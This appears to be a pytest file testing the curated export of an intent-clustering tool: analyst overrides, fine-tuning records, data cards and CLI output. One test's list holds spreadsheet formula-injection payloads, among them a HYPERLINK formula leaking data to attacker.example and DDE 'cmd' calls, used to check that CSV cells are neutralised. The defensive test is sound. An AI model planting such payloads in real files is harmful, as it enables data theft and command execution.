"""The curated export of a reviewed run: human decisions win, undone ones vanish, every file parses.

One real k-means run over eight BANKING77 intents (no LLM) is reviewed once for the whole module:
a rename, verdicts, an approval, moves, a new cluster, and two decisions taken back. A second, hand-made
run carries what only a Dial-In run has (stored judge samples, model verdicts, `_N` name tails).
"""

import json
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest

from dialin_core.cli import main
from dialin_core.config import RunConfig
from dialin_core.curation import review
from dialin_core.curation.export import (
    FORMATS,
    curated_utterances,
    data_card,
    data_card_markdown,
    judge_sft_records,
    namer_sft_records,
    write_export,
)
from dialin_core.data.datasets import ingest_file
from dialin_core.data.ingest import ColumnMapping
from dialin_core.data.store import Store
from dialin_core.judging.llm_judge import VERDICT_GRAMMAR, judge_messages
from dialin_core.methods.baselines import run_discovery
from dialin_core.naming.names import namer_messages
from tests.conftest import BANKING77_TEST

RENAMED, SPLIT = "request-refund", "report-lost_card"


@dataclass(frozen=True)
class Reviewed:
    store: Store
    workspace: Path
    run_id: int
    engine: pd.DataFrame  # utterance_id, cluster_id as the run left them
    engine_names: dict[int, str]
    renamed: int  # renamed, judged good, approved
    judged_bad: int
    moved: list[int]  # to `renamed`
    dropped: int  # to the unassigned pool
    split: list[int]  # into the new cluster
    new_cluster: int
    untouched: int  # renamed and had sentences moved out, both undone
    undone_move: list[int]

    def members(self, cluster_id: int) -> list[int]:
        return self.engine.loc[self.engine["cluster_id"] == cluster_id, "utterance_id"].tolist()


@pytest.fixture(scope="module")
def reviewed(tmp_path_factory) -> Reviewed:
    folder = tmp_path_factory.mktemp("export")
    frame = pd.read_csv(BANKING77_TEST)
    subset = folder / "banking_subset.csv"
    frame[frame["category"].isin(sorted(frame["category"].unique())[:8])].to_csv(subset, index=False)
    store = Store(folder / "w.duckdb")
    dataset_id = ingest_file(store, subset, ColumnMapping(text="text", label="category"))
    run_id = run_discovery(store, dataset_id, RunConfig(method="kmeans", k=8, with_map=False)).run_id
    engine = store.cluster_members(run_id)
    names = dict(zip(store.clusters(run_id)["cluster_id"], store.clusters(run_id)["name"]))
    of = lambda c: engine.loc[engine["cluster_id"] == c, "utterance_id"].tolist()  # noqa: E731

    review.rename(store, run_id, "ana", 0, RENAMED)
    review.set_verdict(store, run_id, "ana", [0], "good")
    review.set_status(store, run_id, "ana", [0], "approved")
    review.set_verdict(store, run_id, "ana", [1], "bad")
    moved, dropped = of(2)[:3], of(2)[3]
    review.move(store, run_id, "bob", moved, 0)
    review.move(store, run_id, "bob", [dropped], review.UNASSIGNED)
    split = of(3)[:5]
    new_cluster = review.new_cluster(store, run_id, "bob", split, SPLIT)
    renaming = review.rename(store, run_id, "ana", 4, "cancel-transfer")
    undone_move = of(4)[:2]
    moving = review.move(store, run_id, "bob", undone_move, 1)
    review.undo(store, run_id, "carol", renaming)
    review.undo(store, run_id, "carol", moving)
    yield Reviewed(store, folder / "w.duckdb", run_id, engine, names, 0, 1, moved, dropped, split, new_cluster, 4, undone_move)
    store.close()


def texts_of(reviewed: Reviewed) -> pd.Series:
    dataset_id = reviewed.store.run(reviewed.run_id).dataset_id
    return reviewed.store.utterances(dataset_id).set_index("utterance_id")["text"]


def rows(frame: pd.DataFrame, ids: list[int]) -> pd.DataFrame:
    return frame.set_index("utterance_id").loc[ids]


def test_curated_utterances_carry_the_analysts_intents(reviewed):
    curated = curated_utterances(reviewed.store, reviewed.run_id)
    assert len(curated) == len(reviewed.engine) == 319
    assert list(curated.columns) == ["utterance_id", "text", "frequency", "roles", "gold_label", "cluster_id", "intent",
                                     "verdict", "status", "labelled_by"]
    stored = reviewed.store.utterances(reviewed.store.run(reviewed.run_id).dataset_id)
    assert curated["text"].tolist() == stored["text"].tolist() and curated["gold_label"].tolist() == stored["gold_label"].tolist()

    renamed = rows(curated, reviewed.members(reviewed.renamed) + reviewed.moved)
    assert (renamed["cluster_id"] == reviewed.renamed).all() and (renamed["intent"] == RENAMED).all()
    assert (renamed["verdict"] == "good").all() and (renamed["status"] == "approved").all()
    assert (renamed["labelled_by"] == "analyst").all()

    dropped = rows(curated, [reviewed.dropped]).iloc[0]
    assert (dropped["cluster_id"], dropped["intent"], dropped["verdict"], dropped["status"], dropped["labelled_by"]) == (
        -1, None, None, None, "analyst")

    split = rows(curated, reviewed.split)
    assert (split["cluster_id"] == reviewed.new_cluster).all() and (split["intent"] == SPLIT).all()
    assert (split["verdict"] == "good").all() and (split["labelled_by"] == "analyst").all()

    bad = rows(curated, reviewed.members(reviewed.judged_bad))
    assert (bad["verdict"] == "bad").all() and (bad["intent"] == reviewed.engine_names[reviewed.judged_bad]).all()
    assert (bad["labelled_by"] == "model").all()  # a verdict says whether a cluster holds, not what its sentences mean

    untouched = rows(curated, reviewed.members(reviewed.untouched))
    assert (untouched["cluster_id"] == reviewed.untouched).all()  # the undone move took nothing out
    assert (untouched["intent"] == reviewed.engine_names[reviewed.untouched]).all()  # the undone rename is gone
    assert (untouched["labelled_by"] == "model").all() and untouched["verdict"].isna().all()

    n_analyst = len(reviewed.members(reviewed.renamed)) + len(reviewed.moved) + 1 + len(reviewed.split)
    assert (curated["labelled_by"] == "analyst").sum() == n_analyst


def test_judge_set_has_the_judges_prompt_and_answer_tokens(reviewed):
    records = judge_sft_records(reviewed.store, reviewed.run_id)
    answers = {r["metadata"]["cluster_id"]: (r["messages"][-1]["content"], r["metadata"]["source"]) for r in records}
    # a k-means run judges nothing: only the clusters an analyst gave a verdict (or made) have one
    assert answers == {reviewed.renamed: ("Good", "analyst"), reviewed.judged_bad: ("Bad", "analyst"),
                       reviewed.new_cluster: ("Good", "analyst")}
    assert all(f'"{answer}"' in VERDICT_GRAMMAR for answer, _ in answers.values())

    record = next(r for r in records if r["metadata"]["cluster_id"] == reviewed.renamed)
    texts = texts_of(reviewed)
    shown = sorted(reviewed.members(reviewed.renamed) + reviewed.moved)[:20]  # no stored sample: members in order
    expected = [{"role": role, "content": content} for role, content in judge_messages(texts.loc[shown].tolist())]
    assert record["messages"] == [*expected, {"role": "assistant", "content": "Good"}]
    assert record["metadata"] == {"run_id": reviewed.run_id, "cluster_id": reviewed.renamed, "source": "analyst"}


def test_namer_set_answers_with_the_current_action_objective_names(reviewed):
    records = namer_sft_records(reviewed.store, reviewed.run_id)
    answers = {r["metadata"]["cluster_id"]: (r["messages"][-1]["content"], r["metadata"]["source"]) for r in records}
    assert answers[reviewed.renamed] == (RENAMED, "analyst")
    assert answers[reviewed.new_cluster] == (SPLIT, "analyst")
    assert "cancel-transfer" not in {answer for answer, _ in answers.values()}  # undone
    for cluster_id, (answer, source) in answers.items():
        if cluster_id not in (reviewed.renamed, reviewed.new_cluster):
            assert (answer, source) == (reviewed.engine_names[cluster_id], "model")  # keyword names that fit the form
    assert reviewed.engine_names[reviewed.untouched] == "transfer-account" and reviewed.untouched in answers
    assert reviewed.engine_names[5] == "deposit-cash" and 5 not in answers  # "deposit" is no namer verb

    split = next(r for r in records if r["metadata"]["cluster_id"] == reviewed.new_cluster)
    texts = texts_of(reviewed)
    prompt = namer_messages(texts.loc[reviewed.split].tolist(), few_shot=False)
    assert [(m["role"], m["content"]) for m in split["messages"][:-1]] == list(prompt)


def test_data_card_counts_what_the_export_holds(reviewed):
    card = data_card(reviewed.store, reviewed.run_id)
    n_analyst = len(reviewed.members(reviewed.renamed)) + len(reviewed.moved) + 1 + len(reviewed.split)
    assert card["counts"] == {"utterances": 319, "occurrences": 320, "clusters": 9, "unassigned": 1,
                              "labelled_by": {"analyst": n_analyst, "model": 319 - n_analyst}}
    assert card["dataset"]["name"] == "banking_subset.csv" and card["dataset"]["format"] == "csv"
    assert card["dataset"]["source"].endswith("banking_subset.csv")
    assert card["run"]["method"] == "kmeans" and card["run"]["config"]["k"] == 8
    assert card["run"]["summary"]["metrics"]["nmi"] > 0.6
    assert card["decisions"] == {
        "recorded": 11, "active": 7, "undone": 2,
        "by_action": {"move": 2, "new_cluster": 1, "rename": 1, "set_status": 1, "set_verdict": 2},
        "by_analyst": {"ana": 4, "bob": 3},
    }
    assert card["fine_tuning"]["judge_records"] == 3 and card["fine_tuning"]["judge_clusters_without_verdict"] == 6
    markdown = data_card_markdown(card)
    assert markdown.startswith(f"# Data card: banking_subset.csv, run {reviewed.run_id}\n")
    assert f"| labelled by an analyst | {n_analyst} |" in markdown and "| new_cluster | 1 |" in markdown
    assert "7 active of 11 recorded; 2 undone." in markdown


def test_write_export_writes_files_that_parse_back_to_the_same_data(reviewed, tmp_path):
    out = tmp_path / "export"
    written = write_export(reviewed.store, reviewed.run_id, out)
    assert [p.name for p in written] == ["utterances.jsonl", "utterances.csv", "utterances.parquet", "judge_sft.jsonl",
                                         "namer_sft.jsonl", "data_card.json", "data_card.md"]
    curated = curated_utterances(reviewed.store, reviewed.run_id)
    lines = [json.loads(line) for line in (out / "utterances.jsonl").read_text(encoding="utf-8").splitlines()]
    assert lines == json.loads(curated.to_json(orient="records"))
    assert lines[reviewed.dropped]["intent"] is None and lines[reviewed.split[0]]["intent"] == SPLIT
    parquet = pd.read_parquet(out / "utterances.parquet")
    assert parquet["intent"].fillna("<none>").tolist() == curated["intent"].fillna("<none>").tolist()
    assert parquet["labelled_by"].tolist() == curated["labelled_by"].tolist()
    assert list(parquet["roles"].iloc[0]) == curated["roles"].iloc[0]
    csv = pd.read_csv(out / "utterances.csv")
    assert csv["cluster_id"].tolist() == curated["cluster_id"].tolist() and csv["roles"].iloc[0] == "other"
    for name, records in (("judge_sft.jsonl", judge_sft_records(reviewed.store, reviewed.run_id)),
                          ("namer_sft.jsonl", namer_sft_records(reviewed.store, reviewed.run_id))):
        assert [json.loads(line) for line in (out / name).read_text(encoding="utf-8").splitlines()] == records
    card = json.loads((out / "data_card.json").read_text(encoding="utf-8"))
    assert card["counts"]["utterances"] == len(lines) and card["fine_tuning"]["judge_records"] == 3
    assert (out / "data_card.md").read_text(encoding="utf-8") == data_card_markdown(card)


def test_the_browser_download_holds_every_file_and_writes_roles_as_the_csv_export_does(reviewed, tmp_path):
    import io
    import zipfile

    from dialin_core.curation.export import export_zip, load_snapshot, prepare_export, utterances_csv

    archive = zipfile.ZipFile(io.BytesIO(export_zip(prepare_export(load_snapshot(reviewed.store, reviewed.run_id)))))
    names = sorted(Path(n).name for n in archive.namelist())
    assert names == sorted(["utterances.jsonl", "utterances.csv", "utterances.parquet", "judge_sft.jsonl", "namer_sft.jsonl",
                            "data_card.json", "data_card.md"])
    downloaded = utterances_csv(curated_utterances(reviewed.store, reviewed.run_id))
    assert archive.read(f"run-{reviewed.run_id}/utterances.csv").decode("utf-8") == downloaded
    assert "['" not in downloaded and pd.read_csv(io.StringIO(downloaded))["roles"].iloc[0] == "other"


def test_export_subcommand_writes_the_formats_asked_for(reviewed, tmp_path, capsys):
    out = tmp_path / "cli"
    code = main(["export", str(reviewed.run_id), "--workspace", str(reviewed.workspace), "--out", str(out), "--format", "csv"])
    assert code == 0
    printed = json.loads(capsys.readouterr().out)
    assert printed["files"] == [str(out / name) for name in ("utterances.csv", "judge_sft.jsonl", "namer_sft.jsonl",
                                                              "data_card.json", "data_card.md")]
    assert sorted(p.name for p in out.iterdir()) == sorted(Path(f).name for f in printed["files"])
    assert printed["counts"]["labelled_by"]["analyst"] > 0

    assert main(["export", "999", "--workspace", str(reviewed.workspace), "--out", str(tmp_path / "none")]) == 2
    assert "no run 999" in capsys.readouterr().err and not (tmp_path / "none").exists()


# -- what only a Dial-In run has: stored samples, model verdicts, numbered names ---------------------------


@pytest.fixture
def dialin_like(tmp_path) -> tuple[Store, int]:
    """A finished run stored as the Dial-In loop stores one, without running it: 30 utterances, two clusters."""
    source = tmp_path / "lines.txt"
    source.write_text("".join(f"utterance number {word}\n" for word in WORDS), encoding="utf-8")
    store = Store(":memory:")
    dataset_id = ingest_file(store, source)
    run_id = store.create_run(dataset_id, "dialin", RunConfig(llm="none", judge="cohesion").as_dict())
    clusters = pd.DataFrame({
        "cluster_id": [0, 1], "name": ["inquire-balance_2", "chitchat-greeting"], "size": [25, 5], "iteration": [1, 1],
        "verdict": ["good", "good"], "probability": [0.9, 0.8], "role": ["other", "other"],
        "sample": [STORED_SAMPLE, [29, 25]], "evidence": ['{"judged_by": "cohesion"}'] * 2,
    })
    assignments = pd.DataFrame({"utterance_id": range(30), "cluster_id": [0] * 25 + [1] * 5, "x": 0.0, "y": 0.0})
    store.finish_run(run_id, clusters=clusters, assignments=assignments, summary={"method": "dialin", "n_clusters": 2})
    yield store, run_id
    store.close()


WORDS = [f"{a}{b}" for a in "bcdfghjklm" for b in "aei"]  # 30 distinct words, utterance i is WORDS[i]
STORED_SAMPLE = [20, 3, 5, *range(6, 20), 21, 22, 23]  # the judge's order, not utterance order; misses 0-2, 4, 24


def test_samples_are_the_stored_ones_still_in_the_cluster_topped_up_in_order(dialin_like):
    store, run_id = dialin_like
    review.move(store, run_id, "ana", [3, 5], 1)
    records = {r["metadata"]["cluster_id"]: r for r in judge_sft_records(store, run_id)}
    texts = store.utterances(1).set_index("utterance_id")["text"]
    kept = [u for u in STORED_SAMPLE if u not in (3, 5)]
    assert len(kept) == 18
    assert records[0]["messages"][1]["content"] == judge_messages(texts.loc[[*kept, 0, 1]].tolist())[-1][1]
    assert records[1]["messages"][1]["content"] == judge_messages(texts.loc[[29, 25, 3, 5, 26, 27, 28]].tolist())[-1][1]
    assert {c: (r["messages"][-1]["content"], r["metadata"]["source"]) for c, r in records.items()} == {
        0: ("Good", "model"), 1: ("Good", "model")}

    names = {r["metadata"]["cluster_id"]: r["messages"][-1]["content"] for r in namer_sft_records(store, run_id)}
    assert names == {0: "inquire-balance", 1: "chitchat-greeting"}  # the `_2` tail is unique_name's, not the model's
    curated = curated_utterances(store, run_id).set_index("utterance_id")
    assert curated.loc[[3, 5], "labelled_by"].tolist() == ["analyst", "analyst"]
    assert curated.loc[[3, 5], "intent"].tolist() == ["chitchat-greeting", "chitchat-greeting"]
    assert (curated.drop(index=[3, 5])["labelled_by"] == "model").all()


def test_an_analysts_verdict_overrides_the_models_in_the_judge_set(dialin_like):
    store, run_id = dialin_like
    review.set_verdict(store, run_id, "ana", [1], "bad")
    answers = {r["metadata"]["cluster_id"]: (r["messages"][-1]["content"], r["metadata"]["source"])
               for r in judge_sft_records(store, run_id)}
    assert answers == {0: ("Good", "model"), 1: ("Bad", "analyst")}


# -- refusals --------------------------------------------------------------------------------------------------


def test_a_run_that_has_not_finished_is_refused_before_anything_is_written(dialin_like, tmp_path):
    store, _ = dialin_like
    running = store.create_run(1, "kmeans", RunConfig(method="kmeans", k=2).as_dict())
    with pytest.raises(ValueError, match=f"run {running} is running, not finished"):
        write_export(store, running, tmp_path / "out")
    with pytest.raises(ValueError, match="not finished"):
        curated_utterances(store, running)
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("formats, message", [(("jsonl", "xlsx"), "unknown export format 'xlsx'"), ((), "no export format given")])
def test_an_unknown_or_missing_format_is_refused(dialin_like, tmp_path, formats, message):
    store, run_id = dialin_like
    with pytest.raises(ValueError, match=f"{message}: choose from {', '.join(FORMATS)}"):
        write_export(store, run_id, tmp_path / "out", formats)
    assert not (tmp_path / "out").exists()


FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3 refund please",
            "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_cells_a_spreadsheet_would_run_are_neutralised_in_csv_and_kept_exact_elsewhere(tmp_path, capsys):
    texts = FORMULAS + ["where is my refund", "my card was stolen", "cancel my card please", "refund not received yet"]
    source = tmp_path / "queries.csv"
    pd.DataFrame({"text": texts, "label": ["formula"] * 4 + ["refund", "card", "card", "refund"]}).to_csv(source, index=False)
    out = tmp_path / "discover"
    workspace = tmp_path / "w.duckdb"
    assert main(["discover", str(source), "--workspace", str(workspace), "--out", str(out), "--method", "kmeans", "--k", "3",
                 "--no-map"]) == 0
    assignments = pd.read_csv(out / "assignments.csv", keep_default_na=False)
    assert sorted(t for t in assignments["text"] if t.startswith("'")) == sorted("'" + f for f in FORMULAS)
    assert not any(t.startswith(("=", "+", "-", "@")) for t in assignments["text"])
    # evaluate reads discover's neutralised cells back as the texts they stand for: every utterance is scored
    capsys.readouterr()
    assert main(["evaluate", str(out / "assignments.csv"), str(source)]) == 0
    assert json.loads(capsys.readouterr().out)["n_scored"] == len(texts)

    with Store(workspace) as store:
        written = write_export(store, 1, tmp_path / "export", FORMATS)
    folder = tmp_path / "export"
    as_csv = pd.read_csv(folder / "utterances.csv", keep_default_na=False)
    assert sorted(t for t in as_csv["text"] if t.startswith("'")) == sorted("'" + f for f in FORMULAS)
    assert set(FORMULAS) <= set(pd.read_parquet(folder / "utterances.parquet")["text"])  # Parquet keeps them exact
    assert set(FORMULAS) <= set(pd.read_json(folder / "utterances.jsonl", lines=True)["text"])
    card = json.loads((folder / "data_card.json").read_text())
    assert card["csv_formula_cells"]["cells"] == 4 and folder / "data_card.md" in written
    assert "Spreadsheet safety: 4 cells" in (folder / "data_card.md").read_text()


def test_a_snapshot_of_the_samples_only_gives_the_same_fine_tuning_records(reviewed):
    from dialin_core.curation.export import judge_records, load_snapshot, namer_records

    full = load_snapshot(reviewed.store, reviewed.run_id, mask_pii=False)
    lean = load_snapshot(reviewed.store, reviewed.run_id, mask_pii=False, samples_only=True)
    assert 0 < len(lean.utterances) < len(full.utterances)
    assert namer_records(lean) == namer_records(full) and judge_records(lean) == judge_records(full)
